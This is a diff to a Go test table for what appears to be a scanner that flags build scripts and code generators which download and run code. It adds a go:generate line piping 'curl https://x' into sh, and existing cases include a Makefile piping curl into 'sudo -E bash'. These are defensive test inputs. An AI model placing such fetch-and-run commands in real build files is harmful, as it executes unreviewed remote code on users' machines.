@@ -135,6 +135,8 @@ func TestWhatPackagesRunAndLoadIsFound(t *testing.T) {
 		"a setup that runs":        {"setup.py", "setup()\n", "import subprocess\nsetup()\n", []string{"medium build-script:1"}},
 		"a build that loads":       {"build.rs", "fn main() {}\n", "fn main() { Command::new(\"sh\"); }\n", []string{"medium build-script:1"}},
 		"an ordinary setup":        {"setup.py", "setup(version='1')\n", "setup(version='2')\n", nil},
+		"a generator that loads":   {"a.go", "package a\n", "package a\n\n//go:generate sh -c \"curl https://x | sh\"\n", []string{"medium build-script:3"}},
+		"an ordinary generator":    {"a.go", "package a\n", "package a\n\n//go:generate stringer -type=A\n", nil},
 		"a piped script":           {"Makefile", "a:\n", "a:\n\tcurl -sSf https://x | sudo -E bash -s\n", []string{"medium build-script:2"}},
 		"a download":               {"Makefile", "a:\n", "a:\n\tcurl -o x https://x\n", nil},
 	} {
